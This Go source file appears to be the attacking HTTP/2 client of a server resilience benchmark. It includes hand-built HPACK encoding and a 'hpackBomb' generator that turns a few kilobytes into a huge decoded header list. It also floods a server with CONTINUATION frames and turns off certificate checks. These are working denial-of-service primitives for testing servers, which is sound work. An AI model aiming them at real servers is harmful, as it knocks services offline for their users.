package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"net"
	"slices"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The hostile HTTP/2 client of `edgebench attack`: a TLS connection (ALPN
// h2, SNI bench.test) driven frame by frame with x/net/http2's Framer, the
// header blocks built by hand (hpack* below) so that the attacks control
// every byte; a reader goroutine answers SETTINGS and PING and tallies
// what the target sends back.

// h2MaxFrame is the frame payload size the attacks send (the default
// SETTINGS_MAX_FRAME_SIZE every server accepts).
const h2MaxFrame = 16 << 10

// h2conn is one attacking connection.
type h2conn struct {
	c    *tls.Conn
	mu   sync.Mutex // the write side: fr's writes and bw
	bw   *bufio.Writer
	fr   *http2.Framer
	next uint32 // next client stream id
	done chan struct{}

	// Filled by the reader.
	responses atomic.Int64 // response HEADERS (any status)
	status431 atomic.Int64
	refused   atomic.Int64 // RST_STREAM REFUSED_STREAM
	resets    atomic.Int64 // other RST_STREAM
	goaway    atomic.Bool
	sent      atomic.Int64 // attack units sent (set by the attack)
	sentAtGA  atomic.Int64 // sent when the GOAWAY arrived
	rmu       sync.Mutex
	gaCode    http2.ErrCode // the first GOAWAY's
	gaLast    uint32        // its last stream id
	gaCodes   []http2.ErrCode
	gaAt      time.Time
	closedAt  time.Time
}

// dialH2 opens an h2 connection to addr: the preface, SETTINGS with
// SETTINGS_INITIAL_WINDOW_SIZE window and, with openWindow, a connection
// WINDOW_UPDATE of 1 GiB (so the target never waits for us); the reader
// stops at hardEnd at the latest.
func dialH2(addr string, window uint32, openWindow bool, hardEnd time.Time) (*h2conn, error) {
	d := &net.Dialer{Timeout: 3 * time.Second}
	c, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{ServerName: "bench.test", InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("ALPN gave %q, not h2", p)
	}
	hc := &h2conn{c: c, bw: bufio.NewWriterSize(c, 64<<10), next: 1, done: make(chan struct{})}
	hc.fr = http2.NewFramer(hc.bw, c)
	hc.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	hc.fr.MaxHeaderListSize = 1 << 20
	_ = c.SetDeadline(hardEnd)
	if _, err := hc.bw.WriteString(http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	err = hc.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}, http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	if err == nil && openWindow {
		err = hc.fr.WriteWindowUpdate(0, 1<<30)
	}
	if err == nil {
		err = hc.bw.Flush()
	}
	if err != nil {
		c.Close()
		return nil, err
	}
	go hc.read()
	return hc, nil
}

// read tallies the target's frames until the connection ends.
func (h *h2conn) read() {
	defer close(h.done)
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			h.rmu.Lock()
			h.closedAt = time.Now()
			h.rmu.Unlock()
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			h.responses.Add(1)
			if st, _ := strconv.Atoi(f.PseudoValue("status")); st == 431 {
				h.status431.Add(1)
			}
		case *http2.RSTStreamFrame:
			if f.ErrCode == http2.ErrCodeRefusedStream {
				h.refused.Add(1)
			} else {
				h.resets.Add(1)
			}
		case *http2.GoAwayFrame:
			h.rmu.Lock()
			h.gaCodes = append(h.gaCodes, f.ErrCode)
			if !h.goaway.Load() {
				h.gaCode, h.gaAt, h.gaLast = f.ErrCode, time.Now(), f.LastStreamID
				h.sentAtGA.Store(h.sent.Load())
				h.goaway.Store(true)
			}
			h.rmu.Unlock()
		// Acks are written aside: an attack holding the write lock while
		// the target is slow to read must not stop this reader.
		case *http2.SettingsFrame:
			if !f.IsAck() {
				go func() { _ = h.write(func(fr *http2.Framer) error { return fr.WriteSettingsAck() }) }()
			}
		case *http2.PingFrame:
			if data := f.Data; !f.IsAck() {
				go func() { _ = h.write(func(fr *http2.Framer) error { return fr.WritePing(true, data) }) }()
			}
		}
	}
}

// write runs fn on the framer under the write lock and flushes.
func (h *h2conn) write(fn func(fr *http2.Framer) error) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	if err := fn(h.fr); err != nil {
		return err
	}
	return h.bw.Flush()
}

// newStream returns the next client stream id (under the write lock).
func (h *h2conn) newStream() uint32 {
	id := h.next
	h.next += 2
	return id
}

// writeBlock sends block as one HEADERS frame and as many CONTINUATION
// frames as h2MaxFrame requires (caller holds the write lock).
func (h *h2conn) writeBlock(id uint32, block []byte, endStream bool) error {
	first := block[:min(len(block), h2MaxFrame)]
	rest := block[len(first):]
	if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: endStream, EndHeaders: len(rest) == 0}); err != nil {
		return err
	}
	for len(rest) > 0 {
		chunk := rest[:min(len(rest), h2MaxFrame)]
		rest = rest[len(chunk):]
		if err := h.fr.WriteContinuation(id, len(rest) == 0, chunk); err != nil {
			return err
		}
	}
	return nil
}

// open sends one request (block, END_STREAM) on a new stream and flushes.
func (h *h2conn) open(block []byte) error {
	return h.write(func(*http2.Framer) error { return h.writeBlock(h.newStream(), block, true) })
}

// goAway reports the GOAWAY the target sent (ok false: none) and when.
func (h *h2conn) goAway() (code http2.ErrCode, at time.Time, ok bool) {
	h.rmu.Lock()
	defer h.rmu.Unlock()
	return h.gaCode, h.gaAt, h.goaway.Load()
}

// goAwayLast is the last stream id of the first GOAWAY and every
// GOAWAY's code in order.
func (h *h2conn) goAwayLast() (uint32, []http2.ErrCode) {
	h.rmu.Lock()
	defer h.rmu.Unlock()
	return h.gaLast, slices.Clone(h.gaCodes)
}

// closed reports when the target ended the connection (zero: open).
func (h *h2conn) closed() time.Time {
	h.rmu.Lock()
	defer h.rmu.Unlock()
	return h.closedAt
}

// close ends the connection and waits for the reader.
func (h *h2conn) close() {
	_ = h.c.Close()
	<-h.done
}

// HPACK by hand (RFC 7541), no Huffman coding, so that a block's size on
// the wire is exact.

// hpackInt appends integer v with an n-bit prefix, the prefix's other
// bits being flags (§5.1).
func hpackInt(b []byte, flags byte, n uint, v int) []byte {
	limit := 1<<n - 1
	if v < limit {
		return append(b, flags|byte(v))
	}
	b = append(b, flags|byte(limit))
	for v -= limit; v >= 128; v >>= 7 {
		b = append(b, byte(v&127|128))
	}
	return append(b, byte(v))
}

// hpackString appends a string literal without Huffman coding (§5.2).
func hpackString(b []byte, s string) []byte {
	return append(hpackInt(b, 0, 7, len(s)), s...)
}

// hpackGet is the request head of GET path for bench.test: :method GET,
// :scheme https (static indexes 2, 7), :path (index 4 for "/", else a
// literal without indexing on name 4), :authority (literal without
// indexing on name 1); nothing enters the target's dynamic table.
func hpackGet(path string) []byte {
	b := []byte{0x82, 0x87}
	if path == "/" {
		b = append(b, 0x84)
	} else {
		b = hpackString(hpackInt(b, 0, 4, 4), path)
	}
	return hpackString(hpackInt(b, 0, 4, 1), "bench.test")
}

// hpackLiteral appends name: value as a literal without indexing, new
// name (§6.2.2).
func hpackLiteral(b []byte, name, value string) []byte {
	return hpackString(hpackString(append(b, 0x00), name), value)
}

// hpackIndexed appends name: value as a literal with incremental
// indexing, new name (§6.2.1): it enters the dynamic table at index 62.
func hpackIndexed(b []byte, name, value string) []byte {
	return hpackString(hpackString(append(b, 0x40), name), value)
}

// hpackBomb is a GET / block referring to dynamic index 62 refs times
// (one byte each, §6.1): a few KB on the wire that decode to refs × the
// entry's size.
func hpackBomb(refs int) []byte {
	b := hpackGet("/")
	for range refs {
		b = append(b, 0x80|62)
	}
	return b
}
